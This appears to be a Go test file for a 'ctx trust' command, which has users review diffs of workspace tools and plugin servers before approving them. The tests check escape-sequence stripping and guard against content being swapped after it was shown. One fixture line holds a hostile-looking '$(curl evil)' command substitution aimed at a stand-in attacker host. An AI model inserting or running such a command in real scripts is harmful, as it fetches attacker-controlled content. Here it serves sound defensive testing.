package trust_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ctx-sidecar/ctx/cmd/ctx/internal/iostreams"
	"github.com/ctx-sidecar/ctx/cmd/ctx/internal/root"
)

// user is someone who stands in a workspace.
type user struct {
	t    *testing.T
	home string
}

func (u user) must(code int, words []string, args ...string) string {
	u.t.Helper()
	s, _, o, e := iostreams.Test()
	got := root.Main(args, []string{"HOME=" + u.home, "PATH=" + os.Getenv("PATH")}, s)
	said := o.String() + e.String()
	for _, w := range words {
		if !strings.Contains(said, w) {
			u.t.Errorf("ctx %s does not say %q:\n%s", strings.Join(args, " "), w, said)
		}
	}
	if got != code {
		u.t.Fatalf("ctx %s: exit %d, want %d\n%s", strings.Join(args, " "), got, code, said)
	}
	return said
}

// workspace is a new one with a tool, in which the user stands from now on.
func (u user) workspace(text string) string {
	u.t.Helper()
	ws := u.t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".agents", "tools"), 0o755); err != nil {
		u.t.Fatal(err)
	}
	u.t.Chdir(ws)
	u.tool(text)
	return ws
}

func (u user) tool(text string) {
	u.t.Helper()
	if err := os.WriteFile(filepath.Join(".agents", "tools", "deploy"), []byte("#!/bin/sh\n# @description Deploy.\n"+text), 0o755); err != nil {
		u.t.Fatal(err)
	}
}

func TestTheUserSeesTheTextOfAToolBeforeDeciding(t *testing.T) {
	u := user{t, t.TempDir()}
	ws := u.workspace("echo one\necho two\n")
	u.must(0, []string{"waits", "local:deploy@" + ws}, "trust", "list")
	u.must(0, []string{"+ SHA-256: ", "+ #!/bin/sh", "+ echo two"}, "trust", "diff", "local:deploy")
	u.must(0, []string{"approved local:deploy@" + ws, "\n    SHA-256 "}, "trust", "approve", "local:deploy")
	u.must(0, []string{"nothing has changed"}, "trust", "diff", "local:deploy")

	u.tool("echo one\necho \x1b[2Jthree\n")
	u.must(0, []string{"changed, waits"}, "trust", "list")
	said := u.must(0, []string{"- echo two", "+ echo ", "three"}, "trust", "diff", "local:deploy")
	if strings.Contains(said, "+ echo one") || strings.Contains(said, "\x1b") {
		t.Errorf("shows %q", said)
	}
	u.must(0, []string{"rejected"}, "trust", "reject", "local:deploy")
	u.must(0, []string{"you rejected it"}, "trust", "diff", "local:deploy")

	// The same name in another workspace is another tool.
	other := u.workspace("echo other\n")
	u.must(0, []string{"approved local:deploy@" + other}, "trust", "approve", "local:deploy")
	u.must(0, nil, "trust", "reject", "local:deploy@"+other)
	copies, err := os.ReadDir(filepath.Join(u.home, ".local", "state", "ctx", "tools"))
	if err != nil || len(copies) != 1 { // of the first workspace's
		t.Errorf("copies: %v, %v", copies, err)
	}

	u.tool("# @param x what\n")
	u.must(0, []string{"deploy:3: ", "no type"}, "trust", "list")
	u.must(1, []string{"ctx trust list"}, "trust", "approve", "local:nobody")
}

// Signs that begin a line are those of the text, where they are not of the diff.
func TestNoLineOfAToolIsTakenForAHeadOfTheDiff(t *testing.T) {
	u := user{t, t.TempDir()}
	u.workspace("++ added first\n")
	u.must(0, []string{"+ ++ added first\n"}, "trust", "diff", "local:deploy")
	u.must(0, []string{"approved"}, "trust", "approve", "local:deploy")
	u.tool("-- dashes\n")
	u.must(0, []string{"- ++ added first\n", "+ -- dashes\n"}, "trust", "diff", "local:deploy")
	u.must(0, []string{"approved"}, "trust", "approve", "local:deploy")
	u.tool("++ $(curl evil)\n")
	said := u.must(0, []string{"- -- dashes\n", "+ ++ $(curl evil)\n"}, "trust", "diff", "local:deploy")
	if strings.Contains(said, "- -- \n") || strings.Contains(said, "+ ++ \n") {
		t.Errorf("the head of the diff is shown:\n%s", said)
	}
}

// What is approved is what was shown, whatever a repository puts in its place in
// between.
func TestNothingIsApprovedThatTookThePlaceOfWhatWasShown(t *testing.T) {
	plugin := func(args string) string {
		return `{"$schema": "https://agent-plugins.org/schemas/1.0.0/mcp.schema.json", "mcpServers": {"deploy": {"type": "stdio", "command": "node", "args": ["` + args + `"]}}}`
	}
	for what, c := range map[string]struct {
		id    string
		swap  func(u user, text string) // puts another one there
		shows string
	}{
		"a tool":           {"local:deploy", func(u user, text string) { u.tool("echo " + text + "\n") }, "list"},
		"a tool, its text": {"local:deploy", func(u user, text string) { u.tool("echo " + text + "\n") }, "diff"},
		"a server of a plugin": {"deploy", func(u user, text string) {
			u.file(".agents/plugins/good/plugin.json", `{"$schema": "https://agent-plugins.org/schemas/1.0.0/plugin.schema.json", "name": "good", "description": "D."}`)
			u.file(".agents/plugins/good/mcp.json", plugin(text))
		}, "list"},
	} {
		t.Run(what, func(t *testing.T) {
			u := user{t, t.TempDir()}
			ws := t.TempDir()
			if err := os.MkdirAll(filepath.Join(ws, ".agents", "tools"), 0o755); err != nil {
				t.Fatal(err)
			}
			t.Chdir(ws)
			show := func() {
				if c.shows == "list" {
					u.must(0, []string{"deploy"}, "trust", "list")
				} else {
					u.must(0, []string{"deploy"}, "trust", "diff", c.id)
				}
			}
			c.swap(u, "one")
			show()
			c.swap(u, "two")
			u.must(1, []string{"was changed after it was shown", "ctx trust diff"}, "trust", "approve", c.id)
			if said := u.must(0, []string{"waits"}, "trust", "list", "--waiting"); strings.Contains(said, "approved") {
				t.Errorf("approved all the same:\n%s", said)
			}
			u.must(0, []string{"approved"}, "trust", "approve", c.id) // as the list has just shown it
			c.swap(u, "three")
			show()
			c.swap(u, "four")
			u.must(0, []string{"rejected"}, "trust", "reject", c.id) // needs no look
		})
	}
}

func (u user) file(name, text string) {
	u.t.Helper()
	err := os.MkdirAll(filepath.Dir(name), 0o755)
	if err == nil {
		err = os.WriteFile(name, []byte(text), 0o600)
	}
	if err != nil {
		u.t.Fatal(err)
	}
}
